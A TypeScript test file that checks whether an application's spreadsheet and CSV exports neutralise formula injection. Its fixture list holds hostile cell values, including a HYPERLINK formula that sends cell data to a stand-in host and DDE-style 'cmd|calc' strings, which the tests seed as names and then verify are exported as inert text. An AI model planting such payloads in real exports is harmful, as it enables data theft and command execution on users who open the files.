import { strFromU8, unzipSync } from 'fflate';
import { readSheet } from 'read-excel-file/node';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Report } from '#contract/reports.ts';
import { ask } from '#tests/support/learning.ts';
import { startTestApp, type TestApp } from '#tests/support/test-app.ts';
import { buildDepartment, buildOperator, buildPerson } from '#tests/support/world.ts';

/** What a spreadsheet would carry out if it took it for what it looks like. */
const names = [
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  '+cmd|calc!A1',
  '-2+3+cmd|calc!A1',
  '@SUM(1)',
  '\t=1+1',
  '＝1+1',
];
const isGuarded = (cell: string) => !/^"?[=+\-@\t＝]/.test(cell);
let app: TestApp;
let token: string;

beforeAll(async () => {
  app = await startTestApp();
  const { organization, token: session } = await buildOperator(app);
  token = session;
  for (const name of names) {
    const { id } = await buildDepartment(app, organization, { title: name });
    await buildPerson(app, organization, { last_name: name, first_name: '', position: name, department_id: id });
  }
  await ask(app, token, 'POST', '/api/v2/tags/custom', { title: '=1+1' });
});
afterAll(() => app.close());

async function make(url: string, body: unknown): Promise<Buffer> {
  const { id } = await ask<{ id: string }>(app, token, 'POST', url, body);
  await app.jobs.runDue();
  const report = await ask<Report>(app, token, 'GET', `/api/v2/reports/${id}`);
  expect(report).toMatchObject({ status: 'complete' });
  const file = await app.console.inject({ url: report.url ?? '', headers: { authorization: `Bearer ${token}` } });
  return file.rawPayload;
}

test.each([
  ['employees', '/api/v2/users/filtered-users-report?need_all=true', []],
  ['progress', '/api/v2/reports/progress', {}],
])('the spreadsheet of %s holds such names as text, letter by letter', async (_, url, body) => {
  const file = await make(url, body);
  const parts = Object.entries(unzipSync(file)).filter(([name]) => /sheet\d+\.xml$/.test(name));
  expect(parts.map(([, part]) => strFromU8(part)).join('')).not.toContain('<f');
  const sheets = await Promise.all(parts.map((_part, at) => readSheet(file, at + 1)));
  const cells = new Set(sheets.flat(2).map(String));
  expect(names.filter((name) => !cells.has(name) && !cells.has(name.trim()))).toEqual([]);
});

test.each([
  ['the log', '/api/v2/audit/report?entity=tag&format=csv', {}],
  ['a proof', '/api/v2/proofs', { from: '2026-03-01', to: '2026-03-11' }],
])('no cell in the CSV of %s begins a formula', async (_, url, body) => {
  const file = await make(url, body);
  const csv = url.includes('csv') ? file : Buffer.from(unzipSync(file)['people.csv'] ?? []);
  const cells = csv
    .toString()
    .replace('\uFEFF', '')
    .split(/\r\n|;/);
  expect(cells.some((cell) => /'[=＝]1\+1/.test(cell))).toBe(true);
  expect(cells.filter((cell) => !isGuarded(cell))).toEqual([]);
});
